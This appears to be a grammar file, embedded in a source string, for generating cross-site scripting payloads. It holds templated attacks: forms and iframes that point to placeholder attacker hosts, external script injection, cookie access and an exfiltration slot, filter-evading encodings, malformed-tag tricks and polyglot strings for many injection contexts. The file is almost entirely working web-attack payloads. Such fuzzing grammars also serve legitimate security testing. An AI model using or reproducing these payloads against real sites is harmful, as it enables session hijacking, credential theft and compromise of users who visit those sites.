        <form action=//«evilhost»/«rand»><«input type=submit¦button»>«xssword»«¦<textarea name=«letter»>¦<input name=«word»»
        </form><form action=«evilurl»>
        "><form action="«evilurl»" method=«post¦get»><«input name=«word»¦button»>
        <textarea name=«letter»><
        <«form¦a¦img¦input¦iframe» «id¦name»=«cookie¦getElementById¦body¦documentElement¦attributes¦currentScript¦innerHTML¦domain¦defaultView»«¦ href="javascript:«jspart»"¦><input «id¦name»=«attributes¦parentNode¦nodeName¦innerHTML»»>
        <a id=«$c:word»><a id=«$c» name=«word» href=«scheme»>
        <plaintext/onmouseover=«jspart»>
        <iframe src=«evilurl»«¦ width=0 height=0¦ style=display:none¦></iframe>»
        <«embed¦object» «src¦data»=«evilurl»«¦ allowscriptaccess=always¦ type=application/x-shockwave-flash»>
        «aq»><h1>«xssword»</h1>
        <marquee>«xssword»</marquee>
        «aq»><a href=«evilurl»>«click here¦«xssword»»</a>
        <script src=«evilurl»
        <«b¦i¦u¦s¦h1¦h2¦font color=red¦blink¦div»>«xssword»</«b¦h1»>«¦<script>»
        <iframe src=«"¦»//«evilhost»«"¦»>

        ¶ ---- tags that are not whole ----
        §brokentag
        2× <«sc»«¦/¦␠¦%20¦␤»>«jspart»
        <«img¦svg¦iframe»«/¦//¦\¦,¦;»«ev»=«jspart»«¦>»
        <<«sc»>«jspart»//<</«sc»>
        <img """><script>«jspart»</script>">
        <«%00¦%20¦\x00¦/¦?¦!¦#¦%¦<¦\¦␀»«sc»>«jspart»</«sc»>
        <«sc»>«jspart»</«sc»«¦<«letter»»
        \x3cscript\x3e«jspart»\x3c/script\x3e
        \u003cscript\u003e«jspart»\u003c/script\u003e
        \x3c«img src=x onerror=«jspart»»\x3e
        \u003cimg src=1 onerror=«jspart»\u003e
        &lt;script&gt;«jspart»&lt;/script&gt;
        &lt;img src=x onerror=«jspart»&gt;
        ＜script＞«jspart»＜/script＞
        ＜img src=x onerror=«jspart»＞
        ‹script›«jspart»‹/script›
        %uff1cscript%uff1e«jspart»%uff1c/script%uff1e
        %3Cscript%3E«jspart»%3C/script%3E
        %253Cscript%253E«jspart»%253C/script%253E
        +ADw-script+AD4-«jspart»+ADw-/script+AD4-
        ¼script¾«jspart»¼/script¾
        %BCscript%BE«jspart»%bc/script%BE
        <«scr»ipt>«jspart»</«scr»ipt>
        <sc<«script¦»>ript>«jspart»</sc</script>ript>
        <im<img>g src=x onerror=«jspart»>
        <!<script>«jspart»</script>
        <!--[if «gte IE 4¦IE¦true»]>«scripttag»<![endif]-->
        <!-- --«!¦»>«scripttag»<!-- -->
        <comment><img src="</comment>«imglit»">
        <![><img src="]>«imglit»">
        <? foo="><script>«jspart»</script>">
        <% foo><x foo="%>«scripttag»">
        </«letter»«gap»«ev»«eq»«jspart»>
        <//«letter» «ev»=«jspart»>
        <«letter»>«jspart»«ev»=«jspart»
        <script/«letter»>«jspart»
        <script>«jspart»</script
        <script«␤¦␉»«letter»=">"␤>«jspart»</script>
        «breakhtml»<SCRIPT «letter»=">" SRC="«evilurl»"></SCRIPT>
        <script ~~~>«jspart»</script ~~~>
        ><«sc»>«jspart»</«sc»>
        <%«hexdigit*2»script>«jspart»</script>
        §scr
        «scr%00¦scr\0¦scr␤¦scr␀¦s%0acr¦scr&#x09;»

        ¶ ---- one text for many places ----
        §polyglot
        «pstart»«pmid»«pend»
        «pstart»«pmid»«pmid»«pend»
        «pstart»«pend»
        «jq»;«run»//«jq»;«run»//\';«run»//";«run»//--></SCRIPT>">'><SCRIPT>«run»</SCRIPT>
        «"¦'»><«img src=x¦svg» «onerror¦onload»=«jspart»>«'¦"»><«script¦svg»«¦/onload=»«jspart»
        §pstart
        jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */«ev→case»=«jspart» )//
        javascript:«/*¦//»--></title></style></textarea></script>
        '">><marquee>«imglit»</marquee>
        «jq»"><«/¦»script>«jspart»//
        -->'"/></sCript>
        */«run»/*
        ';«run»//
        "'`--></«title¦style¦script»>
        `-«run»-`
        §pmid
        %0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>
        </«title¦textarea¦style¦script¦noscript¦select»>
        '"`>
        /*«"¦'»*/
        \x3csVg/<sVg/oNloAd=«jspart»//>\x3e
        *//*`/**/
        "onclick=«run»//<button ' onclick=«run»//> */ «run»//
        --></script>
        ">>
        §pend
        «eventtag»
        «scripttag»
        <svg/onload=«jspart»//
        <svg/<svg/onload=«jspart»//>
        \x3csvg onload=«jspart»\x3e

        ¶ ---- bare expressions, documents, carriers, encodings ----
        §jsexpr
        4× «jspart»
        «jspart»//
        eval(«run»)
        «exfil»
        <«letter»>«jspart»
        document.«cookie¦domain¦location¦write('«xssword»')¦body.innerHTML='«imglit»'»
        «window.¦»location«.href¦»=«"¦'»«scheme»«"¦'»
        «obscured»
        §shortxss
        3× «breakhtml»<«sc»>
        3× «ev»=«pop»(«shortarg»)
        3× «aq»«ev»=«pop»(«shortarg»)
        3× «jq»«jop»«pop»(«shortarg»)«jend»
        2× <«tagname»«gap»«ev»=«pop»(«shortarg»)
        2× «breakhtml»<«tagname»«gap»«ev»=
        2× <«tagname»/«ev»=«pop»`«shortarg»`>
        2× «jsword»:«pop»(«shortarg»)
        «breakhtml»<«sc» src=«scripturl»
        «breakhtml»</«sc2»>
        «aq»><«letter»«¦>»
        <«sc»>«pop»(«shortarg»
        <«letter» «ev»=«pop»(«shortarg»)
        «aq»><«xssword»>
        <«letter»/«letter»="«letter»"«ev»=«letter»>
        «pop»(«shortarg»)«¦;¦//»
        §shortarg
        «1¦«#0-99»¦'«xssword»'¦/«letter»/¦"«xssword»"¦document.«prop»»
        §docs
        <html><«body¦head»«gap»«ev»=«qjs»></«body¦head»></html>
        <html><body>«scripttag»</body></html>
        <htm«␤¦»l><«scripttag»
        <«word»>«scripttag»</«word»>
        <«b¦p¦div»>«word»</«b¦p¦div»>«eventtag»
        «word»«scripttag»«word»
        «word» «eventtag»
        §carriedxss
        3× {"«param»":"«any→json»"}
        3× «param»=«any»
        /«word»?«param»=«any→url»
        "«any»"
        filename="«any»"
        «word»@«word».com«any»
        "«any»"@«word».com
        Mozilla/5.0 «any»
        http://«word».com/«any»
        #«any»
        ?«any»
        {"«param»":"\u003cscript\u003e«run→json»\u003c/script\u003e"}
        §any
        4× «breakhtml»«scripttag»
        4× «breakhtml»«eventtag»
        2× «attrbreak»
        «jsbreakout»
        «scheme»
        §encodedxss
        3× «any→url»
        2× «any→urllower»
        «any→urltwice»
        «any→urlsome»
        «any→entdec»
        «any→enthex»
        «any→entlong»
        «any→percentu»
        «any→slashu»
        «any→slashx»
        «any→b64»
        «any→plus»
        «any→case»
        «any→entsome»
        """";
}
